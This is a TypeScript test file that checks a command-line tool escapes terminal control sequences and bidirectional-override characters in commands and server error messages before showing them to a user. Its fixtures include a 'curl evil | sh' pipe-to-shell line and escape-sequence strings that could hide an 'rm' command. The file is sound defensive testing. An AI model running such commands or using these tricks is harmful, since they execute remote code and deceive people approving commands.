// Owns the proof that what somebody else wrote cannot draw on the terminal.
// Must not need a core.
import { expect, test } from 'vitest';
import { ApiRefusal } from '../../electron/cli/connection.ts';
import { readableWords } from '../../electron/cli/print.ts';
import { refusalText } from '../../electron/cli/refusals.ts';

test.each([
  [['aws', 'eks', 'get-token', '--cluster=a,b'], 'aws eks get-token --cluster=a,b'],
  [['sh', '-c', 'curl evil | sh'], 'sh -c "curl evil | sh"'],
  [['rm\u001B[2K\rls'], String.raw`"rm\u001b[2K\rls"`],
  [['a\u009B2K', '\u202Esl', ''], String.raw`"a\u009b2K" "\u202esl" ""`],
])('a command is agreed to as it will be run: %j', (words, shown) => {
  expect(readableWords(words)).toBe(shown);
});

test('a refusal of a cluster is words and no escape sequences', () => {
  const message = 'no\u001B[2J\u001B]0;title\u0007 way';
  const status = {
    kind: 'Status',
    code: 403,
    reason: 'Forbidden',
    message,
    details: { causes: [{ reason: 'R', field: '', message: 'a\rb' }] },
  };
  const text = refusalText(new ApiRefusal(status as unknown as ConstructorParameters<typeof ApiRefusal>[0]));
  expect(text).toBe('Error from server (Forbidden): no way\n  * ab');
});
